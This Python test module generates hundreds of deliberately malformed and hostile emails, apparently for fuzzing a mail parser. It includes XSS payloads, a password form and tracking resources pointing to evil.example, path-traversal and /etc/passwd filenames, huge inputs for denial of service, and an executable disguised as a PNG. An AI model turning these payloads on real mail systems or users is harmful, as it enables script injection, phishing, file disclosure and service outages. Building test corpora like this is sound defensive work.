"""Mails that no decent program writes, made by rule: more than two hundred of them, each with a name."""

from __future__ import annotations

import base64
from collections.abc import Iterator

HEAD = (
    b"From: Basil Hedge <basil@example.org>\r\nTo: info@shop.example\r\nSubject: Hello\r\n"
    b"Message-ID: <%d@example.org>\r\n"
)
CHARSETS = (
    "punycode",
    "idna",
    "zlib",
    "hex",
    "rot13",
    "base64",
    "unicode_escape",
    "raw_unicode_escape",
    "undefined",
    "utf-7",
    "utf-16",
    "utf-32",
    "x-unknown",
    "utf8mb4",
    "iso-8859-8-i",
    "windows-1252",
    "koi8-r",
    "big5",
    "gb18030",
    "iso-2022-jp",
    "shift_jis",
    "euc-kr",
    "us-ascii",
    "binary",
    "0",
    "''",
)
ENCODINGS = ("base64", "quoted-printable", "x-uuencode", "7bit", "8bit", "binary", "x-gzip64", "", "base64; base64")
TYPES = (
    "text/plain",
    "text/html",
    "text",
    "/",
    "multipart/mixed",
    "multipart/alternative; boundary=",
    'multipart/mixed; boundary="',
    "message/rfc822",
    "message/partial; number=1; total=2; id=a",
    "message/external-body; access-type=local-file; name=/etc/passwd",
    "multipart/report; report-type=delivery-status; boundary=b",
    "multipart/encrypted; boundary=b",
    "application/ms-tnef",
    "image/svg+xml",
    "text/calendar",
    "text/plain; charset=utf-8; charset=utf-7",
    "text/plain; " + "a=b; " * 2000,
    "text/html; name*0*=utf-8''%FF; name*1*=%00; name*99999999999=x",
)
HTML = (
    "<script>alert(1)</script><p onclick=alert(1)>x</p>",
    '<img src="https://evil.example/pixel.gif" onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a><a href="data:text/html,x">y</a><a href="vbscript:x">z</a>',
    '<p style="background:url(https://evil.example/p.gif)">x</p>',
    "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style><p>x</p>",
    '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name=password><button>Send</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
    "<svg><script>alert(1)</script></svg><math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
    "<table><td><svg><desc><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<link rel="stylesheet" href="https://evil.example/x.css"><video src="https://evil.example/v"></video>',
    "<!--[if mso]><p>x</p><![endif]--><!-- -- > <img src=x> -->",
    "<div>" * 60_000,
    "<b><p>" * 40_000,
    "&" * 400_000,
    "<div " + " ".join(f"a{number}=b" for number in range(40_000)) + ">x</div>",
    "<" * 200_000,
    '<p style="' + "color:red;" * 30_000 + '">x</p>',
    "\x00<p>\x00x\x0b</p>\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "<p>" + "x" * 2_000_000 + "</p>",
)
HEADERS = (
    b"Subject: " + b"=?utf-8?q?" * 20_000,
    b"Subject: =?punycode?b?" + b"QUFB" * 5000 + b"?=",
    b"Subject: =?utf-8?b?/////w==?=",
    b"Subject: \x00\x01\xff\xfe",
    b"Subject: " + b"a" * 3_000_000,
    b"Subject:",
    b"Subject : blank before the colon",
    b"From: " + b"(" * 50_000 + b"basil@example.org",
    b"From: " + b'"' * 20_001 + b"basil@example.org",
    b"From: <>",
    b"From: nobody",
    b"From: basil@example.org, ivy@example.org, " * 3000,
    b"From: =?utf-8?q?a@b=2Ec?= <basil@example.org>",
    b"From: basil@example.org\r\nFrom: ivy@example.org",
    b"From: " + "ünï@exämple.org".encode(),
    b"To: " + b"a@example.org, " * 40_000,
    b"Cc: undisclosed-recipients:;",
    b"Date: Mon, 99 Foo 99999 99:99:99 +9999",
    b"Date: " + b"1" * 100_000,
    b"References: " + b"<a@example.org> " * 50_000,
    b"References: " + b"<" * 100_000,
    b"In-Reply-To: <a@example.org",
    b"Message-ID: no brackets",
    b"Message-ID: <" + b"a" * 10_000 + b"@example.org>",
    b"Reply-To: <script>alert(1)</script>@example.org",
    b"X-Long: " + b"\r\n ".join([b"y" * 900] * 2000),
    b"\r\n".join(b"X-%d: y" % number for number in range(50_000)),
    b"Content-Type: text/plain; charset=" + b"a" * 50_000,
    b'Content-Disposition: attachment; filename="../../etc/passwd\x00.html"',
    b"Content-Disposition: attachment; filename=" + b"a" * 50_000,
    b"Content-Transfer-Encoding: " + b"x" * 50_000,
    b"MIME-Version: 1.0 (" + b"(" * 20_000,
    b"Auto-Submitted: " + b";" * 50_000,
)


def hostile() -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each."""
    number = 0

    def made(headers: bytes, body: bytes) -> bytes:
        nonlocal number
        number += 1
        return HEAD % number + headers + b"\r\n\r\n" + body

    for charset in CHARSETS:
        kind = f"Content-Type: text/plain; charset={charset}".encode()
        yield f"charset {charset}", made(kind, b"caf\xe9 xn--" + b"a-b" * 20_000)
        yield f"word {charset}", made(f"Subject: =?{charset}?q?=FF=FEa?=\r\nX-A: b".encode(), b"x")
        coded = base64.encodebytes(b"\x00\xff" * 3000)
        yield f"coded {charset}", made(kind + b"\r\nContent-Transfer-Encoding: base64", coded)
    for encoding in ENCODINGS:
        head = f"Content-Type: text/plain\r\nContent-Transfer-Encoding: {encoding}".encode()
        yield f"encoding {encoding}", made(head, b"begin 644 x\r\n\xff\xff!!!!=ZZ=\r\n" * 500)
        yield f"broken {encoding}", made(head, b"=" * 100_000)
        yield f"html {encoding}", made(head.replace(b"plain", b"html"), b"<p>=3D \xff" * 1000)
    for kind in TYPES:
        for body in (b"", b"--\r\n\r\nx", b"--b\r\n\r\n--b--\r\n", b"\x00" * 1000):
            yield f"type {kind[:30]} {len(body)}", made(f"Content-Type: {kind}".encode(), body)
    for place, html in enumerate(HTML):
        yield f"html {place}", made(b"Content-Type: text/html; charset=utf-8", html.encode("utf-8", "replace"))
    for header in HEADERS:
        yield f"header {header[:24]!r}", header + b"\r\nX-Marker: %d\r\n\r\nHello" % len(header)
    for place, (name, raw) in enumerate(_nested()):
        yield name, b"Message-ID: <nested-%d@example.org>\r\n" % place + raw if raw.startswith(b"From") else raw


def _nested() -> Iterator[tuple[str, bytes]]:
    start = b"From: basil@example.org\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n"
    for depth in (2, 19, 21, 60, 149, 151, 500, 3000):
        raw = start
        for level in range(1, depth):
            raw += b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (level - 1, level)
        yield f"nested {depth}", raw + b"x\r\n" * 20
    deep = start + b"".join(
        b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (level, level + 1) for level in range(140)
    )
    yield "nested with many lines", deep + b"--x\r\n" * 300_000
    yield "mails in mails", b"From: a@example.org\r\n" + b"Content-Type: message/rfc822\r\n\r\n" * 2000
    parts = b"".join(b"--b0\r\nContent-Type: text/plain; name=a%d.txt\r\n\r\nx\r\n" % one for one in range(3000))
    yield "many parts", start + parts + b"--b0--"
    yield "empty", b""
    yield "no head", b"\r\n\r\nonly a body"
    yield "only zeros", b"\x00" * 5000
    yield "every byte", bytes(range(256)) * 50
    yield "lone returns", b"From: a@example.org\rSubject: x\r\rbody\r" * 100
    program = b"--b0\r\nContent-Type: image/png; name=cat.png\r\n\r\nMZ\x90\x00" + b"\x00" * 100 + b"\r\n--b0--"
    yield "a program called a picture", start + program
    page = (
        b"--b0\r\nContent-Type: text/html; name=page.html\r\nContent-Disposition: attachment\r\n\r\n<script>1</script>"
    )
    yield "a page as a file", start + page + b"\r\n--b0--"
